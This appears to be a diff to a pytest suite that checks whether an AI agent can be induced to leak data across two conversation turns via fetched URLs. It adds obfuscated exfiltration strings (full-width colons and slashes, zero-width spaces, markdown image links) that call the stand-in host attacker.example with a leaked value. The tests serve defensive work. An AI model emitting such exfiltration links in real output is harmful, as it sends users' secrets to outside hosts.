@@ -97,11 +97,18 @@ WRITINGS = [
     "&#104;ttp&colon;//attacker.example/c/" + HEX,
     "![x]({leak})",
     "{leak}。続きは {leak}\\",
+    "-{leak} x{leak} {leak}\u200b",
+    "http：／／attacker.example/c/" + HEX + " //attacker.example/c/" + HEX,
 ]
+ON_DYNAMODB = [WRITINGS[at] for at in (0, 1, 2, 4, 11, 12, 14)]
+"""Code, bare, a link, a block, a table, half a link and a reference: what the store keeps is the same."""
 
 
-@pytest.mark.parametrize("writing", WRITINGS)
-@pytest.mark.parametrize("store", ["sqlite"], indirect=True)
+@pytest.mark.parametrize(
+    ("store", "writing"),
+    [*(("sqlite", each) for each in WRITINGS), *(("dynamodb", each) for each in ON_DYNAMODB)],
+    indirect=["store"],
+)
 def test_a_thread_does_not_leave_in_two_turns(stage, web, claude, writing):
     """The first answer shows a URL of the model's making; the second question lets it be fetched."""
     claude.script(call("fetch_url", {"url": LURE}), say("続きは " + writing.replace("{leak}", LEAK)))
